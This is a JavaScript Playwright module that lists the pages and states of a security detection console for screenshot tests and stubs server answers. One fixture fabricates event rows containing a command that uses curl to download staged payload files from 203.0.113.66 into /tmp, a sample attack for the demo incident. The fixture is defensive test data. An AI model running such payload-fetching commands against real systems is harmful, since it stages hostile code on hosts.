// Every page of the console, with its parts and its states, as screenshots are made of them and as they are held to fit.
import { patience, settled } from './lib.mjs'

/** press presses a button of a page, and waits for what comes of it. */
const press = (name, role = 'button') => async (page) => {
  await page.getByRole(role, { name }).first().click()
  await settled(page)
}

const asked = (kql) => `/hunt?q=${encodeURIComponent(kql)}`
const secrets = 'audit | where resource.type == "secrets" | project time, actor.user.name, api.operation, k8s.namespace, resource.name, src_endpoint.ip'

/** views are those of a server on the demo's day: name → where, and what is done there; as is whose session it is, stub what the server answers instead. */
export async function views(server) {
  const { incidents } = await server.api('GET', '/api/v1/incidents')
  const { rules } = await server.api('GET', '/api/v1/rules')
  const worst = incidents.find((i) => i.severity === 'critical')
  const incident = `/incidents/${worst.id}`
  const viewer = { role: 'viewer' }
  const part = { role: 'viewer', scope: { namespaces: ['shop'] } }
  return {
    overview: { path: '/overview' },
    incidents: { path: '/incidents' },
    incident: { path: incident },
    'incident-chosen': { path: incident, act: (page) => page.getByRole('group', { name: 'Graph of the incident' }).getByRole('button', { name: /^user anna\.keller/ }).click() },
    'incident-large': { path: incident, stub: large },
    'incident-expected': { path: incident, act: press('Expected…') },
    finding: { path: `${incident}?finding=${worst.findings[7]}` },
    'finding-rule': { path: `${incident}?finding=${worst.findings[7]}`, act: press('Rule', 'tab') },
    'finding-events': { path: `${incident}?finding=${worst.findings[7]}`, act: press('Events', 'tab') },
    findings: { path: '/findings?by=rule' },
    'findings-list': { path: '/findings?by=' },
    hunt: { path: asked(secrets) },
    'hunt-new': { path: '/hunt' },
    'hunt-events': { path: asked('audit | where src_endpoint.ip == "203.0.113.66"') },
    'hunt-graph': { path: asked(secrets), act: press('graph') },
    'hunt-chart': { path: asked('audit | summarize n = count() by api.operation, bin(time, 1h) | render timechart'), act: press('chart') },
    'hunt-explain': { path: asked(secrets), act: press('Explain') },
    'hunt-wrong': { path: asked('audit | where nothere == 1') },
    builder: { path: `${asked('audit | where resource.type == "secrets" or actor.user.name startswith "anna" | summarize times = count() by actor.user.name')}&build=yes` },
    map: { path: '/map' },
    'map-account': { path: `/map?at=${encodeURIComponent('account||payments|payments-api')}` },
    'map-line': { path: '/map', act: (page) => page.getByRole('table', { name: 'Who talks to whom' }).getByRole('row').nth(1).getByRole('button').first().click() },
    inventory: { path: '/inventory?kind=workloads' },
    accounts: { path: '/inventory?kind=accounts' },
    account: { path: '/inventory/accounts?name=anna.keller' },
    workload: { path: '/inventory/workloads?namespace=payments&what=Deployment&name=api' },
    rules: { path: '/rules' },
    matrix: { path: '/rules?view=matrix' },
    rule: { path: `/rules/${rules.find((r) => r.name === 'token_read_by_command').id}` },
    coverage: { path: '/coverage?span=1h' },
    settings: { path: '/settings' },
    exclusions: { path: '/settings?part=exclusions' },
    fleet: { path: '/settings?part=fleet' },
    server: { path: '/settings?part=server' },
    tokens: { path: '/settings?part=tokens' },
    search: { path: '/overview', act: searches },
    keys: { path: '/overview', act: (page) => page.keyboard.press('?') },
    nowhere: { path: '/nowhere' },
    error: { path: '/incidents', stub: (page) => page.route('**/api/v1/incidents?*', (r) => r.fulfill({ status: 503, contentType: 'application/problem+json', body: JSON.stringify({ code: 'unavailable', message: 'the store does not answer', do: 'look at the log of lynceus up' }) })) },
    loading: { path: '/incidents', stub: (page) => page.route('**/api/v1/incidents?*', () => undefined), unsettled: true },
    'sign-in': { path: '/overview', as: null },
    'viewer-overview': { path: '/overview', as: viewer },
    'viewer-incident': { path: incident, as: viewer },
    'viewer-hunt': { path: '/hunt', as: viewer },
    'viewer-inventory': { path: '/inventory', as: viewer },
    'viewer-coverage': { path: '/coverage', as: viewer },
    'part-overview': { path: '/overview', as: part },
    'part-coverage': { path: '/coverage', as: part },
    'part-settings': { path: '/settings', as: part },
  }
}

/** emptyViews are those of a server that nothing came to. */
export const emptyViews = Object.fromEntries(['/overview', '/incidents', '/findings', '/hunt', '/map', '/inventory', '/rules', '/rules?view=matrix', '/coverage', '/settings?part=server'].map((path) => [path.replace(/^\//, '').replace(/\W+/g, '-'), { path }]))

async function searches(page) {
  await page.keyboard.press('/')
  await page.getByRole('combobox', { name: 'Search for' }).fill('anna')
  await page.getByRole('option').first().waitFor()
}

/** see shows a view in a browser that is signed in as itself, or as others where the view says so, and hands its page over. */
export async function see(browser, server, options, all, act) {
  const contexts = new Map()
  const session = async (as) => {
    const key = JSON.stringify(as)
    if (!contexts.has(key)) {
      const context = await browser.newContext({ reducedMotion: 'reduce', ...options })
      context.setDefaultTimeout(patience)
      contexts.set(key, context)
      const page = await context.newPage()
      if (as === undefined) {
        await page.goto(server.link())
        await page.locator('nav').waitFor()
      }
      if (as) {
        const { secret } = await server.api('POST', '/api/v1/tokens', { name: as.scope ? `${as.role} of a part` : as.role, seconds: 3600, ...as })
        await page.goto(server.address)
        await page.getByLabel(/a token/).fill(secret)
        await page.getByRole('button', { name: 'Sign in' }).click()
        await page.locator('nav').waitFor()
      }
      await page.close()
    }
    return contexts.get(key)
  }
  try {
    for (const [name, view] of Object.entries(all)) {
      const page = await (await session(view.as)).newPage()
      await view.stub?.(page)
      await page.goto(server.address + view.path)
      await page.locator(view.as === null ? 'form' : 'nav').waitFor()
      if (view.unsettled) await page.locator('.bones').first().waitFor()
      else await settled(page)
      if (view.act) {
        await view.act(page)
        await settled(page)
      }
      await act(page, name)
      await page.close()
    }
  } finally {
    for (const context of contexts.values()) await context.close()
  }
}

/** large makes of the demo's incident one of more than forty things in seven columns: more findings, and what its pods did. */
export async function large(page) {
  const at = '2026-11-18T14:19:00Z'
  await page.route('**/api/v1/findings?*', async (route) => {
    const answer = await route.fetch()
    const body = await answer.json()
    const like = body.findings.find((f) => f.document?.resource?.name)
    for (let i = 0; like && i < 12; i++) {
      const document = structuredClone(like.document)
      Object.assign(document, { id: `${like.id}-${i}`, severity: ['high', 'medium', 'low'][i % 3], resource: { ...document.resource, verb: ['patch', 'delete', 'update'][i % 3], resource: 'deployments', name: `a-workload-with-a-long-name-${i}`, namespace: `team-${i % 4}` } })
      body.findings.push({ ...like, id: document.id, document })
    }
    await route.fulfill({ response: answer, json: body })
  })
  const names = ['table', 'time', 'received_time', 'metadata.uid', 'activity', 'k8s.namespace', 'k8s.pod', 'process.cmd_line', 'actor.process.cmd_line', 'process.parent_process.cmd_line', 'actor.process.file.path', 'file.path', 'dst_endpoint.ip', 'dst_endpoint.port', 'dst_endpoint.hostname', 'query.hostname']
  const row = (of) => names.map((n) => ({ time: at, received_time: at, 'metadata.uid': 'x', 'k8s.namespace': 'payments', 'k8s.pod': 'node-check', ...of })[n] ?? null)
  const rows = [row({ table: 'process', activity: 'Launch', 'process.cmd_line': 'sh' })]
  for (let i = 0; i < 6; i++) {
    const child = `curl --silent --output /tmp/stage-${i} https://203.0.113.66/stage-${i}`
    rows.push(row({ table: 'process', activity: 'Launch', 'process.cmd_line': child, 'process.parent_process.cmd_line': 'sh' }))
    rows.push(row({ table: 'file', activity: 'Create', 'actor.process.cmd_line': child, 'file.path': `/tmp/stage-${i}` }))
    rows.push(row({ table: 'network', activity: 'Open', 'actor.process.cmd_line': child, 'dst_endpoint.ip': `203.0.113.${60 + i}`, 'dst_endpoint.port': 443 }))
  }
  await page.route('**/api/v1/query', (route) => {
    if (!route.request().postDataJSON().query.includes('union withsource=table process, file, network, dns')) return route.continue()
    return route.fulfill({ json: { columns: names.map((name) => ({ name, type: 'string' })), rows } })
  })
}
